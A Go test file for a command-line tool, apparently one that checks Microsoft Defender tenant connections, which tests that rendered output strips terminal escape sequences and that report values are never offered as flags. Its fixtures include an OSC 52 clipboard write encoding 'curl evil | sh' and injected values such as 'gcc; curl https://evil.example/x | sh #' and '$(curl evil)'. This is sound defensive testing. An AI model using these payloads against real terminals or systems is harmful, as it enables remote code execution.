package cli

import (
	"bytes"
	"strings"
	"testing"

	"charm.land/fang/v2"
	"github.com/paratira/mdeconnect/defender"
	"github.com/paratira/mdeconnect/defender/problem"
)

// hostileText is text a hostileText server, CSV or report could carry: an OSC 52
// clipboard write, a title change, a screen clear, C1 CSI, BEL, backspace and
// a right-to-left override.
const hostileText = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;owned\x07\x1b[2J\x1b[32mFAKE-OK\u009b31m\b\u202e"

// terminalSafe reports the first byte or rune a terminal would act on.
func terminalSafe(t *testing.T, out string) {
	t.Helper()
	for _, bad := range []string{"\x1b]", "\x1b[2J", "\x07", "\b", "\u009b", "\u202e", "\x1b[32mFAKE"} {
		if strings.Contains(out, bad) {
			t.Fatalf("output carries %q:\n%q", bad, out)
		}
	}
}

func TestHostileTextNeverReachesTheTerminal(t *testing.T) {
	t.Parallel()
	res := defender.Result{Tenants: []defender.TenantResult{{TenantID: "contoso.com", Customer: "Cust" + hostileText,
		Checks: []defender.CheckResult{{ID: defender.CheckToken, Status: defender.Fail, Problem: problem.ServiceError,
			Message: "AADSTS" + hostileText + strings.Repeat("x", 1<<20), Remedy: "do" + hostileText}}}}}
	var b bytes.Buffer
	renderResult(&b, res)
	terminalSafe(t, b.String())
	if b.Len() > 8000 {
		t.Errorf("a 1 MB message printed %d bytes: not clipped", b.Len())
	}
	b.Reset()
	printAll(&app{out: &b, getenv: func(string) string { return "" }}, summarise(
		[]savedTestOutput{{Result: res, Connector: "C" + hostileText}}, []error{nil}))
	terminalSafe(t, b.String())
}

func TestReplayNoteQuotesTheReport(t *testing.T) {
	t.Parallel()
	rep := &supportReport{Tool: toolInfo{Version: "v1" + hostileText}, Tenants: []reportTenant{{TenantID: "x; curl evil | sh"}}}
	rep.Connector.Cloud = "gcc; curl https://evil.example/x | sh #"
	rep.Connector.ClientID = "$(curl evil)"
	note := replayNote(rep, "report.json")
	terminalSafe(t, note)
	if strings.Contains(note, "Test with:") {
		t.Errorf("a report's values were offered as flags:\n%s", note)
	}
	for _, want := range []string{"unknown cloud", "not a GUID", "not a tenant ID"} {
		if !strings.Contains(note, want) {
			t.Errorf("note does not say %q:\n%s", want, note)
		}
	}
}

func TestErrorsAreSanitised(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	a := &app{getenv: func(string) string { return "" }}
	a.renderError(&b, fang.Styles{}, errorString("token: "+hostileText))
	terminalSafe(t, b.String())
}

type errorString string

func (e errorString) Error() string { return string(e) }
